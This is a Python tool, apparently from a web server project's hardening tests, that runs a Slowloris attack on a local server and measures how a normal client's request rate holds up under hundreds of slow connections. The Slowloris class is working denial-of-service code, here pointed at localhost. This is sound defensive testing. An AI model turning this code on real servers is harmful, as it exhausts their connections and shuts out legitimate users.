#!/usr/bin/env python3
"""Slowloris against x15g: many connections trickle a request head that never ends.

Two modes:
- `--port P`: attack a running server for `--duration` seconds with `--conns` connections, each
  sending one header line every `--interval` seconds; a connection the server drops is reopened
  at once (a real attacker keeps the pressure). Prints JSON stats: connections opened, dropped by
  the server, and how long dropped ones had lived (≈ the server's --header-timeout).
- no `--port` (the long variant of tests/hardening/test_timeouts.py): start x15g on a temporary
  root with `--header-timeout`, measure a normal client's request rate alone, then under attack
  with 500 connections, and print the ratio (issue 6: it must stay >= 0.8).

Usage: .venv/bin/python -m tools.slowloris [--conns 500] [--duration 20] [--header-timeout 2]
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import selectors
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


class Slowloris:
    """Keep `conns` connections trickling a head to 127.0.0.1:`port` until `stop` is set."""

    def __init__(self, port: int, conns: int, interval: float) -> None:
        self.port = port
        self.conns = conns
        self.interval = interval
        self.selector = selectors.DefaultSelector()
        self.opened = 0
        self.dropped = 0
        self.refused = 0
        self.lifetimes: list[float] = []
        self.answers: dict[str, int] = {}
        self.stop = threading.Event()

    def _open(self) -> None:
        sock = socket.socket()
        sock.setblocking(True)
        sock.settimeout(5)
        try:
            sock.connect(("127.0.0.1", self.port))
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            self.refused += 1
            sock.close()
            return
        sock.setblocking(False)
        self.opened += 1
        self.selector.register(sock, selectors.EVENT_READ, [time.monotonic(), time.monotonic()])

    def _drop(self, key: selectors.SelectorKey, data: bytes) -> None:
        self.selector.unregister(key.fileobj)
        key.fileobj.close()
        self.dropped += 1
        self.lifetimes.append(time.monotonic() - key.data[0])
        status = data[9:12].decode("ascii", "replace") if data.startswith(b"HTTP/1.") else "none"
        self.answers[status] = self.answers.get(status, 0) + 1

    def run(self, duration: float) -> dict:
        """Attack for `duration` seconds (or until `stop`); returns the stats."""
        deadline = time.monotonic() + duration
        while time.monotonic() < deadline and not self.stop.is_set():
            while len(self.selector.get_map()) < self.conns and not self.stop.is_set():
                self._open()
            for key, _ in self.selector.select(timeout=0.05):
                try:
                    data = key.fileobj.recv(4096)
                except OSError:
                    data = b""
                self._drop(key, data)  # any answer (408) or EOF ends a slowloris connection
            now = time.monotonic()
            for key in list(self.selector.get_map().values()):
                if now - key.data[1] >= self.interval:
                    key.data[1] = now
                    try:
                        key.fileobj.send(b"X-Slow: %d\r\n" % int(now))
                    except OSError:
                        self._drop(key, b"")
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        return self.stats()

    def stats(self) -> dict:
        lives = sorted(self.lifetimes)
        return {
            "conns": self.conns, "opened": self.opened, "dropped_by_server": self.dropped,
            "refused": self.refused, "answers": self.answers,
            "lifetime_min": round(lives[0], 3) if lives else None,
            "lifetime_median": round(lives[len(lives) // 2], 3) if lives else None,
            "lifetime_max": round(lives[-1], 3) if lives else None,
        }


def client_rate(port: int, duration: float, path: str = "/hello.txt") -> float:
    """Requests per second of one normal client (a new connection per request, like a browser's
    first visit: the worst case, every request goes through accept)."""
    done = 0
    deadline = time.monotonic() + duration
    start = time.monotonic()
    while time.monotonic() < deadline:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request("GET", path)
        response = conn.getresponse()
        body = response.read()
        conn.close()
        if response.status != 200 or body != b"hello, world\n":
            raise RuntimeError(f"normal client got {response.status}")
        done += 1
    return done / (time.monotonic() - start)


def experiment(conns: int, duration: float, header_timeout: float) -> dict:
    """Start x15g, measure a normal client alone, under `conns` slowloris connections (the
    attacker is a separate process so it does not share the client's GIL), then alone again."""
    from tests.support.server import ServerProcess

    with tempfile.TemporaryDirectory() as tmp:
        root = os.path.join(tmp, "root")
        os.mkdir(root)
        with open(os.path.join(root, "hello.txt"), "wb") as f:
            f.write(b"hello, world\n")
        with ServerProcess(root, "--header-timeout", str(header_timeout)) as server:
            client_rate(server.port, 1.0)  # warm the cache
            before = client_rate(server.port, duration / 2)
            attacker = subprocess.Popen(
                [sys.executable, "-m", "tools.slowloris", "--port", str(server.port), "--conns", str(conns),
                 "--interval", str(header_timeout / 4), "--duration", str(duration * 3)],
                stdout=subprocess.PIPE, text=True, cwd=REPO)
            time.sleep(2.0)  # ramp up
            under = client_rate(server.port, duration)
            attacker.send_signal(signal.SIGTERM)
            stats = json.loads(attacker.communicate(timeout=30)[0])
            after = client_rate(server.port, duration / 2)
    alone = (before + after) / 2
    return {"rate_alone": round(alone, 1), "rate_under_attack": round(under, 1),
            "ratio": round(under / alone, 3), "loadavg_1min": os.getloadavg()[0], **stats}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, help="attack this running server (else run the experiment)")
    parser.add_argument("--conns", type=int, default=500)
    parser.add_argument("--interval", type=float, default=0.5)
    parser.add_argument("--duration", type=float, default=20.0)
    parser.add_argument("--header-timeout", type=float, default=2.0)
    args = parser.parse_args()
    if args.port is None:
        result = experiment(args.conns, args.duration, args.header_timeout)
        print(json.dumps(result))
        return 0 if result["ratio"] >= 0.8 else 1
    attack = Slowloris(args.port, args.conns, args.interval)
    signal.signal(signal.SIGTERM, lambda *_: attack.stop.set())
    print(json.dumps(attack.run(args.duration)), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
